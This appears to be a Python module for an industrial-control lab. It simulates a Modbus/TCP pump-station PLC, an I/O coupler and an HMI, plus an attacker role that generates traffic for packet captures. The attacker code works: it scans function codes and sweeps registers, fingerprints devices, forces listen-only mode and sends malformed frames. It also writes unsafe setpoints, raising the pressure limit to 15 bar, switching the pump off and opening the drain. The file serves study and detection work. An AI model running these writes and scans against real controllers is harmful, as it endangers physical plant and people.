"""Modbus/TCP roles: pymodbus servers for plc1 and rtu1, the HMI that polls them, an attacker.

plc1 unit 1 is the pumping-station controller, unit 2 the pump's drive behind it; rtu1 is an
I/O coupler. Each uses the classic four separate tables (coils, discrete inputs, holding
registers, input registers). Every FC4 read advances the unit's process model one scan. Each
server carries a device identity (FC43/MEI 14, FC17) and answers every function code pymodbus
does not implement with exception 01 (illegal function).
"""

from __future__ import annotations

import asyncio
import random
import struct
import time
from collections.abc import Awaitable, Callable
from typing import Any

from lab.process import ProcessModel, Sample
from lab.roles import RoleArgs, announce_ready, role, until_sigterm

PORT = 502
FC_READ_DISCRETE_INPUTS = 2
FC_READ_INPUT_REGISTERS = 4
ILLEGAL_FUNCTION = 1
ILLEGAL_DATA_ADDRESS = 2
#: public and user-defined function codes (128..255 are exception responses)
FUNCTION_CODES = range(1, 128)


def _u16(value: float) -> int:
    return max(0, min(0xFFFF, round(value)))


def _pack_bits(bits: list[bool]) -> list[int]:
    """Bits (bit 0 first) to 16-bit registers, as pymodbus stores coils and inputs."""
    regs = []
    for base in range(0, len(bits), 16):
        regs.append(sum(1 << i for i, bit in enumerate(bits[base : base + 16]) if bit))
    return regs


def _station_inputs(s: Sample, run_hours: int) -> list[int]:
    status = s.pump_running | s.valve_open << 1 | s.level_high << 2 | s.level_low << 3 | 1 << 4
    return [
        _u16(s.level_pct * 10),
        _u16(s.flow_m3h * 10),
        _u16(s.pressure_bar * 100),
        _u16(s.temperature_c * 10),
        _u16(s.pump_rpm),
        _u16(s.motor_current_a * 10),
        status,
        s.step & 0xFFFF,
        run_hours >> 16,
        run_hours & 0xFFFF,
    ]


def _station_discretes(s: Sample) -> list[bool]:
    return [
        s.pump_running,
        False,  # pump fault
        s.valve_open,
        not s.valve_open,
        s.level_high,
        s.level_low,
        True,  # emergency stop circuit healthy
        True,  # panel door closed
        True,  # auto mode
    ] + [False] * 23


def _drive_inputs(s: Sample) -> list[int]:
    running = s.pump_running
    return [
        _u16(s.pump_rpm),
        _u16(s.motor_current_a * 10),
        _u16(560 + (s.pressure_bar - 4.2) * 5),
        _u16(s.temperature_c * 10 + 150),
        0x0637 if running else 0x0631,
        0,  # fault code
        (41_870 + s.step // 10) & 0xFFFF,
        0,
    ]


def _coupler_inputs(s: Sample) -> list[int]:
    """4-20 mA channels as the coupler's 0..32767 raw counts."""

    def raw(value: float, lo: float, hi: float) -> int:
        return _u16((value - lo) / (hi - lo) * 32767)

    return [
        raw(s.level_pct, 0, 100),
        raw(s.pressure_bar, 0, 10),
        raw(s.temperature_c, -20, 80),
        raw(s.flow_m3h, 0, 100),
        0,
        0,
        0,
        0,
    ]


def _device(
    dev_id: int,
    model: ProcessModel,
    coils: list[bool],
    holding: list[int],
    inputs: Callable[[Sample], list[int]],
    discretes: Callable[[Sample], list[bool]],
    input_count: int = 32,
    guard: Guard | None = None,
) -> Any:
    """A pymodbus SimDevice whose FC4 reads advance model and FC2/FC4 publish its scans;
    guard, if given, may answer a request with an exception code instead."""
    from pymodbus.simulator import DataType, SimData, SimDevice

    latest = [model.next()]

    async def action(
        func_code: int, start: int, address: int, count: int, regs: list[int], values: Any
    ) -> Any:
        if guard is not None and (code := guard(func_code, address)):
            from pymodbus.constants import ExcCodes

            return ExcCodes(code)  # pymodbus takes only its enum as an exception answer
        if func_code == FC_READ_INPUT_REGISTERS:
            latest[0] = model.next()
            for i, value in enumerate(inputs(latest[0])):
                regs[i - start] = value
        elif func_code == FC_READ_DISCRETE_INPUTS:
            for i, value in enumerate(_pack_bits(discretes(latest[0]))):
                regs[i - start] = value
        return None

    def bits(values: list[bool]) -> list[SimData]:
        return [SimData(0, values=values, datatype=DataType.BITS)]

    def words(values: list[int]) -> list[SimData]:
        return [SimData(0, values=values, datatype=DataType.UINT16)]

    first_inputs = inputs(latest[0])
    tables = (
        bits(coils),
        bits(discretes(latest[0])),
        words(holding),
        words(first_inputs + [0] * (input_count - len(first_inputs))),
    )
    return SimDevice(id=dev_id, simdata=tables, action=action)


#: a device's request guard: (function code, address) -> exception code, or None to serve it
Guard = Callable[[int, int], int | None]
#: the drive's parameter channel (unit 2, HR 100-199, "parameters" option)
PARAMETER_BASE, PARAMETER_COUNT = 100, 100
#: how long the drive needs for one parameter read; a read meanwhile is answered busy
PARAMETER_BUSY_S = 0.5
ACKNOWLEDGE, DEVICE_BUSY = 5, 6


def parameter_channel() -> Guard:
    """The drive's slow parameter channel: a parameter write is answered exception 05
    (acknowledge: accepted, stored later), a parameter read within PARAMETER_BUSY_S of the
    last served one exception 06 (device busy)."""
    served = [-PARAMETER_BUSY_S]

    def guard(func_code: int, address: int) -> int | None:
        if address < PARAMETER_BASE:
            return None
        if func_code in (6, 16):
            return ACKNOWLEDGE
        now = time.monotonic()
        if now - served[0] < PARAMETER_BUSY_S:
            return DEVICE_BUSY
        served[0] = now
        return None

    return guard


def pump_station(seed: int, parameters: bool = False) -> list[Any]:
    """plc1: unit 1 station controller, unit 2 the pump drive (with parameters: the drive's
    parameter channel, HR 100-199)."""
    run_hours = 18_234
    drive_holding = [1480, 50, 50, 0x047F, 350, 0, 0, 0]
    if parameters:
        drive_holding += [0] * (PARAMETER_BASE - len(drive_holding))
        drive_holding += [(7 * i + 30) & 0x3FF for i in range(PARAMETER_COUNT)]

    def station_inputs(s: Sample) -> list[int]:
        return _station_inputs(s, run_hours + s.step // 50)

    def drive_discretes(s: Sample) -> list[bool]:
        return [s.pump_running, False] + [False] * 14

    return [
        _device(
            1,
            ProcessModel(seed),
            coils=[True, False, True] + [False] * 29,
            holding=[650, 420, 520, 1, 1480, 30, 5, 0, 0, 0, 1100, 300, 40, 1] + [0] * 50,
            inputs=station_inputs,
            discretes=_station_discretes,
        ),
        _device(
            2,
            ProcessModel(seed + 1),
            coils=[True] + [False] * 15,
            holding=drive_holding,
            inputs=_drive_inputs,
            discretes=drive_discretes,
            input_count=16,
            guard=parameter_channel() if parameters else None,
        ),
    ]


def io_coupler(seed: int, parameters: bool = False) -> list[Any]:
    """rtu1: one unit with eight analog inputs, sixteen digital inputs and outputs."""

    def discretes(s: Sample) -> list[bool]:
        return [s.pump_running, s.valve_open, s.level_high, s.level_low, True] + [False] * 11

    return [
        _device(
            1,
            ProcessModel(seed),
            coils=[False] * 16,
            holding=[0x0000, 0x00FF, 10, 0, 0, 0, 0, 0],
            inputs=_coupler_inputs,
            discretes=discretes,
            input_count=8,
        )
    ]


DEVICES: dict[str, Callable[[int, bool], list[Any]]] = {
    "pump-station": pump_station,
    "io-coupler": io_coupler,
}

#: what each device answers to FC43/MEI 14 (objects 0-6) and, joined by "-", to FC17
IDENTITIES: dict[str, dict[str, str]] = {
    "pump-station": {
        "VendorName": "Schneider Electric",
        "ProductCode": "BMXP342020",
        "MajorMinorRevision": "V3.20",
        "VendorUrl": "http://www.se.com",
        "ProductName": "Modicon M340",
        "ModelName": "BMX P34 2020",
        "UserApplicationName": "PUMP_STATION_1",
    },
    "io-coupler": {
        "VendorName": "WAGO Kontakttechnik GmbH & Co. KG",
        "ProductCode": "750-352",
        "MajorMinorRevision": "01.10.05",
        "VendorUrl": "http://www.wago.com",
        "ProductName": "ETHERNET Fieldbus Coupler",
        "ModelName": "750-352 G3",
        "UserApplicationName": "RTU1 INLET",
    },
}


def raw_function(fc: int) -> type[Any]:
    """A PDU class for a function code pymodbus does not implement.

    A client sends it with a 4-byte body (address 0, quantity 1, as scanners do); a server
    registered with it answers exception 01 (illegal function) with function code fc | 0x80.
    Without it pymodbus fails to decode the request and answers function code 0x80 instead.
    """
    from pymodbus.pdu import ExceptionResponse, ModbusPDU

    class RawFunction(ModbusPDU):
        function_code = fc

        def __init__(
            self, body: bytes = b"\x00\x00\x00\x01", dev_id: int = 1, transaction_id: int = 0
        ) -> None:
            super().__init__(dev_id=dev_id, transaction_id=transaction_id)
            self.body = body

        def encode(self) -> bytes:
            return self.body

        def decode(self, data: bytes) -> None:
            self.body = data

        async def datastore_update(self, context: Any, device_id: int) -> ModbusPDU:
            return ExceptionResponse(self.function_code, ILLEGAL_FUNCTION)

    RawFunction.__name__ = RawFunction.__qualname__ = f"Function{fc}"
    return RawFunction


#: Schneider UMAS (FC 90): function code, and the return code of a positive answer
UMAS = 90
UMAS_OK = 0xFE


def umas_function() -> type[Any]:
    """FC 90 (UMAS) as a server with the "umas" option answers it: every request is accepted
    with the pair key echoed and return code 0xFE (ok), as a Modicon answers a session that
    holds the PLC reservation. The client registers the same class to decode the answer."""
    from pymodbus.pdu import ModbusPDU

    base = raw_function(UMAS)

    class Umas(base):  # type: ignore[misc, valid-type]
        async def datastore_update(self, context: Any, device_id: int) -> ModbusPDU:
            key = self.body[0] if self.body else 0
            answer: ModbusPDU = Umas(body=bytes((key, UMAS_OK)), dev_id=device_id)
            return answer

    Umas.__name__ = Umas.__qualname__ = "Umas"
    return Umas


def implemented_functions() -> set[int]:
    """Function codes pymodbus decodes (and its server serves)."""
    from pymodbus.pdu import DecodePDU

    return set(DecodePDU(True).list_function_codes())


@role("modbus-server")
def modbus_server(args: RoleArgs) -> None:
    """Serve one of DEVICES on args["ip"]:args["port"] (502) until SIGTERM. Options:
    "parameters" gives the pump station's drive its slow parameter channel (parameter_channel),
    "umas" answers FC 90 requests as umas_function does."""
    from pymodbus.pdu.device import ModbusDeviceIdentification
    from pymodbus.server import ModbusTcpServer

    devices = DEVICES[args["device"]](int(args["seed"]), bool(args.get("parameters")))
    identity = ModbusDeviceIdentification(info_name=IDENTITIES[args["device"]])
    implemented = implemented_functions()
    unsupported = [raw_function(fc) for fc in FUNCTION_CODES if fc not in implemented]
    if args.get("umas"):
        unsupported = [umas_function() if pdu.function_code == UMAS else pdu for pdu in unsupported]
    address = (args["ip"], int(args.get("port", PORT)))

    async def serve() -> None:
        server: Any = ModbusTcpServer(
            devices,
            address=address,
            identity=identity,
            custom_pdu=unsupported,
        )
        await server.serve_forever(background=True)
        announce_ready()
        await until_sigterm()
        await server.shutdown()

    asyncio.run(serve())


class _Poller:
    """One HMI connection; every request must succeed unless it is meant to fail."""

    def __init__(self, host: str, port: int = PORT) -> None:
        from pymodbus.client import AsyncModbusTcpClient

        self.host = host
        self.port = port
        self.client = AsyncModbusTcpClient(host, port=port, timeout=2, retries=0)
        self.requests = 0

    async def connect(self) -> None:
        if not await self.client.connect():
            raise SystemExit(f"modbus: cannot connect to {self.host}:{self.port}")

    async def __call__(self, method: str, *args: Any, unit: int = 1, **kwargs: Any) -> Any:
        self.requests += 1
        result = await getattr(self.client, method)(*args, device_id=unit, **kwargs)
        if result.isError():
            raise SystemExit(f"modbus: {method}{args} to {self.host} unit {unit}: {result}")
        return result

    async def expect_exception(self, method: str, *args: Any, code: int, **kwargs: Any) -> None:
        self.requests += 1
        result = await getattr(self.client, method)(*args, device_id=1, **kwargs)
        if not result.isError() or result.exception_code != code:
            raise SystemExit(f"modbus: {method}{args}: expected exception {code}, got {result}")


@role("modbus-hmi")
def modbus_hmi(args: RoleArgs) -> None:
    """Poll plc1 every args["period"] s for args["duration"] s, and rtu1 every fifth cycle."""
    port = int(args.get("port", PORT))
    duration, period = float(args["duration"]), float(args["period"])
    asyncio.run(_hmi(args["plc"], args["rtu"], duration, period, port))


async def _hmi(plc_ip: str, rtu_ip: str, duration: float, period: float, port: int) -> None:
    plc, rtu = _Poller(plc_ip, port), _Poller(rtu_ip, port)
    await plc.connect()
    await rtu.connect()
    cycles = max(10, round(duration / period))
    # operator and recipe actions, at fixed fractions of the session
    actions: dict[float, Callable[[], Awaitable[Any]]] = {
        0.15: lambda: plc("write_register", 0, 620),
        0.30: lambda: plc("write_registers", 10, [1200, 350, 45, 2]),
        0.45: lambda: plc("write_coil", 4, True),
        0.55: lambda: plc.expect_exception(
            "read_holding_registers", 1000, count=4, code=ILLEGAL_DATA_ADDRESS
        ),
        0.65: lambda: plc("write_coils", 8, [True, False, True, True, False, False, True, False]),
        0.80: lambda: plc("write_coil", 4, False),
        0.90: lambda: plc("write_register", 0, 1450, unit=2),
    }
    schedule = {max(1, round(f * cycles)): act for f, act in actions.items()}
    start = time.monotonic()
    for n in range(cycles):
        await plc("read_holding_registers", 0, count=10)
        await plc("read_input_registers", 0, count=10)
        await plc("read_coils", 0, count=16)
        await plc("read_discrete_inputs", 0, count=16)
        if n % 10 == 5:
            await plc("read_holding_registers", 0, count=5, unit=2)
            await plc("read_input_registers", 0, count=8, unit=2)
        if n % 5 == 2:
            await rtu("read_input_registers", 0, count=8)
            await rtu("read_discrete_inputs", 0, count=16)
        if n in schedule:
            await schedule[n]()
        await asyncio.sleep(max(0.0, start + (n + 1) * period - time.monotonic()))
    plc.client.close()
    rtu.client.close()
    await asyncio.sleep(0.2)
    print(f"modbus-hmi: {plc.requests} requests to {plc_ip}, {rtu.requests} to {rtu_ip}")


# --------------------------------------------------------------------------------------------
# The attacker: a rogue laptop that scans, sweeps, writes, diagnoses, identifies and fuzzes.
# --------------------------------------------------------------------------------------------


def scan_calls() -> dict[int, tuple[str, tuple[Any, ...], dict[str, Any]]]:
    """FC scan requests for the function codes pymodbus implements: harmless reads, and writes
    of the value already there to a register and a coil nobody uses (plc1 unit 1 HR 63, coil
    31). Every other function code goes out as raw_function(fc)."""
    from pymodbus.pdu.file_message import FileRecord

    # FileRecord takes a length in bytes and halves it: 4 bytes = 2 registers
    read_record = FileRecord(file_number=1, record_number=0, record_length=4)
    write_record = FileRecord(file_number=1, record_number=0, record_data=b"\x00\x00")
    return {
        1: ("read_coils", (0,), {"count": 1}),
        2: ("read_discrete_inputs", (0,), {"count": 1}),
        3: ("read_holding_registers", (0,), {"count": 1}),
        4: ("read_input_registers", (0,), {"count": 1}),
        5: ("write_coil", (31, False), {}),
        6: ("write_register", (63, 0), {}),
        7: ("read_exception_status", (), {}),
        8: ("diag_query_data", (b"\x00\x00",), {}),
        11: ("diag_get_comm_event_counter", (), {}),
        12: ("diag_get_comm_event_log", (), {}),
        15: ("write_coils", (31, [False]), {}),
        16: ("write_registers", (63, [0]), {}),
        17: ("report_device_id", (), {}),
        20: ("read_file_record", ([read_record],), {}),
        21: ("write_file_record", ([write_record],), {}),
        22: ("mask_write_register", (), {"address": 63, "and_mask": 0xFFFF, "or_mask": 0}),
        23: (
            "readwrite_registers",
            (),
            {"read_address": 0, "read_count": 1, "write_address": 63, "values": [0]},
        ),
        24: ("read_fifo_queue", (), {"address": 0}),
        43: ("read_device_information", (), {"read_code": 1}),
    }


def _mbap(tid: int, pdu: bytes, *, protocol: int = 0, length: int | None = None) -> bytes:
    """An MBAP header (unit 1) and PDU; length defaults to the true one (unit id + PDU)."""
    true_length = len(pdu) + 1
    return struct.pack(">HHHB", tid, protocol, true_length if length is None else length, 1) + pdu


def malformed_frames(rng: random.Random, plc_ip: str, port: int) -> list[tuple[str, bytes]]:
    """What the attacker writes to raw TCP connections: ADUs pymodbus cannot produce."""
    read10 = struct.pack(">BHH", 3, 0, 10)  # FC3, HR 0, 10 registers
    # FC16 of 123 registers (the maximum) at HR 0x1000, then an overflow of "A"s: length 300
    oversize = struct.pack(">BHHB", 16, 0x1000, 123, 246) + b"A" * (246 + 47)
    http = f"GET / HTTP/1.1\r\nHost: {plc_ip}:{port}\r\nUser-Agent: curl/7.88.1\r\n"
    http += "Accept: */*\r\n\r\n"
    tid = lambda: rng.randrange(0x0100, 0xFFFF)  # noqa: E731
    return [
        ("protocol id 0x0001", _mbap(tid(), read10, protocol=1)),
        ("MBAP length 4, 6 bytes follow", _mbap(tid(), read10, length=4)),
        ("MBAP length 16, 6 bytes follow", _mbap(tid(), read10, length=16)),
        ("MBAP length 300 (> 260)", _mbap(tid(), oversize)),
        ("zero-length PDU (MBAP length 1)", _mbap(tid(), b"")),
        ("reserved function code 0", _mbap(tid(), struct.pack(">BHH", 0, 0, 1))),
        ("HTTP GET to port 502", http.encode()),
    ]


class _Attacker:
    """The attack session's clock and pacing, and one pymodbus connection per target."""

    def __init__(self, duration: float, seed: int) -> None:
        self.rng = random.Random(seed)
        self.start = time.monotonic()
        self.pause = duration / 40  # between steps
        self.gap = duration / 1200  # between the requests of a scan or sweep
        self.linger = duration / 48  # how long a raw connection waits for an answer
        self.requests = 0

    def step(self, what: str) -> None:
        print(f"modbus-attacker: {time.monotonic() - self.start:5.2f} s {what}", flush=True)

    async def call(self, client: Any, method: str, *args: Any, **kwargs: Any) -> Any:
        self.requests += 1
        return await getattr(client, method)(*args, device_id=1, **kwargs)

    async def expect_ok(self, client: Any, method: str, *args: Any, **kwargs: Any) -> Any:
        result = await self.call(client, method, *args, **kwargs)
        if result is None or result.isError():
            raise SystemExit(f"modbus-attacker: {method}{args}: {result}")
        return result


async def _raw_exchange(ip: str, port: int, data: bytes, linger: float) -> bytes:
    """Open a TCP connection, write data, read what comes back within linger s, close."""
    reader, writer = await asyncio.open_connection(ip, port)
    writer.write(data)
    await writer.drain()
    try:
        reply = await asyncio.wait_for(reader.read(1024), linger)
    except TimeoutError:
        reply = b""
    writer.close()
    await writer.wait_closed()
    return reply


@role("modbus-attacker")
def modbus_attacker(args: RoleArgs) -> None:
    """Attack plc1 (and identify rtu1) while the HMI polls; see pcaps/README.md."""
    asyncio.run(_attack(args["plc"], args["rtu"], float(args["duration"]), int(args["seed"])))


async def _fc_scan(at: _Attacker, plc: Any) -> str:
    implemented, calls = implemented_functions(), scan_calls()
    answered, illegal = [], []
    for fc in FUNCTION_CODES:
        if fc in calls:
            method, args, kwargs = calls[fc]
            result = await at.call(plc, method, *args, **kwargs)
        else:
            at.requests += 1
            result = await plc.execute(False, raw_function(fc)(dev_id=1))
        if result.isError():
            if result.exception_code != ILLEGAL_FUNCTION or fc in implemented:
                raise SystemExit(f"modbus-attacker: FC{fc}: {result}")
            illegal.append(fc)
        else:
            answered.append(fc)
        await asyncio.sleep(at.gap)
    return f"answered FC {answered}, {len(illegal)} others illegal function"


async def _attack(plc_ip: str, rtu_ip: str, duration: float, seed: int) -> None:
    from pymodbus.client import AsyncModbusTcpClient

    at = _Attacker(duration, seed)
    await asyncio.sleep(duration / 10)  # the HMI's normal polling comes first
    plc = AsyncModbusTcpClient(plc_ip, port=PORT, timeout=2, retries=0)
    rtu = AsyncModbusTcpClient(rtu_ip, port=PORT, timeout=2, retries=0)
    if not await plc.connect():
        raise SystemExit(f"modbus-attacker: cannot connect to {plc_ip}:{PORT}")

    at.step("1 function-code scan FC1-127, unit 1")
    at.step("  " + await _fc_scan(at, plc))
    await asyncio.sleep(at.pause)

    at.step("2 holding-register sweep, FC3 64 registers every 2048 addresses")
    exceptions = 0
    for address in range(0, 0x10000, 2048):
        result = await at.call(plc, "read_holding_registers", address, count=64)
        exceptions += result.isError() and result.exception_code == ILLEGAL_DATA_ADDRESS
        await asyncio.sleep(at.gap * 2)
    at.step(f"  {exceptions} of 32 blocks illegal data address")
    await asyncio.sleep(at.pause)

    at.step("3 writes: FC6 HR 2, FC16 HR 3-4, FC5 coil 0, FC15 coils 0-3")
    await at.expect_ok(plc, "write_register", 2, 1500)  # pressure limit 5.20 -> 15.00 bar
    await asyncio.sleep(at.pause / 2)
    await at.expect_ok(plc, "write_registers", 3, [0, 2950])  # manual mode, speed 2950 rpm
    await asyncio.sleep(at.pause / 2)
    await at.expect_ok(plc, "write_coil", 0, False)  # pump 1 off
    await asyncio.sleep(at.pause / 2)
    await at.expect_ok(plc, "write_coils", 0, [False, False, False, True])  # drain
    await asyncio.sleep(at.pause)

    at.step("4 diagnostics: FC8 sub 0 (query data), 4 (listen only), 1 (restart comms)")
    echo = at.rng.randrange(0x10000).to_bytes(2, "big")
    result = await at.expect_ok(plc, "diag_query_data", echo)
    if result.message != echo:
        raise SystemExit(f"modbus-attacker: query data {echo.hex()} came back as {result}")
    # pymodbus sends sub-function 4 without waiting (the standard says no response comes);
    # its server answers anyway, and the client drops that answer
    await at.call(plc, "diag_force_listen_only")
    await asyncio.sleep(at.pause)
    await at.expect_ok(plc, "diag_restart_communication", False)
    await asyncio.sleep(at.pause)

    at.step("5 identification: FC43/MEI 14 basic and regular, FC17, on plc1 and rtu1")
    if not await rtu.connect():
        raise SystemExit(f"modbus-attacker: cannot connect to {rtu_ip}:{PORT}")
    for host, client in ((plc_ip, plc), (rtu_ip, rtu)):
        basic = await at.expect_ok(client, "read_device_information", read_code=1)
        await asyncio.sleep(at.pause / 2)
        regular = await at.expect_ok(client, "read_device_information", read_code=2)
        await asyncio.sleep(at.pause / 2)
        server_id = await at.expect_ok(client, "report_device_id")
        await asyncio.sleep(at.pause / 2)
        objects = basic.information | regular.information
        at.step(f"  {host}: " + " / ".join(v.decode() for v in objects.values()))
        at.step(f"  {host}: FC17 {server_id.identifier.decode()!r}")
    rtu.close()
    plc.close()
    await asyncio.sleep(at.pause)

    at.step("6 malformed frames on raw TCP connections to port 502")
    for what, data in malformed_frames(at.rng, plc_ip, PORT):
        reply = await _raw_exchange(plc_ip, PORT, data, at.linger)
        at.requests += 1
        at.step(f"  {what}: " + (f"answered {reply.hex(' ')}" if reply else "no answer"))
        await asyncio.sleep(at.pause / 2)
    at.step(f"done, {at.requests} requests")
